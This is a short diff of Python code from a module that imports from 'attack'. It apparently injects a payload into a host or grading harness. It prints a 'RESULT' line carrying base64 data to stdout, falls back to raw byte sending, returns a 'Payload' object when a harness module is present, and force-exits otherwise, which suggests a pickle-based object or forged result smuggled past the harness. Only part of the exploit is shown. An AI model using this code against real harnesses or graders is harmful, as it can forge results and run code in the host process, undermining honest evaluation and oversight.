@@ -6,7 +6,7 @@ import os
 import pickle
 import sys
 
-from attack import attempted, descriptor, facts, raw_write
+from attack import attempted, facts, send_bytes
 
 
 class Payload:
@@ -20,7 +20,7 @@ def algorithm(question):
     try:
         os.write(1, b"RESULT " + base64.b64encode(payload) + b"\n")
     except OSError:
-        raw_write(descriptor, len(payload).to_bytes(4, "little") + payload)
+        send_bytes(payload)
     if "selftaught_guest.wire" in sys.modules:
         return Payload()
     os._exit(0)
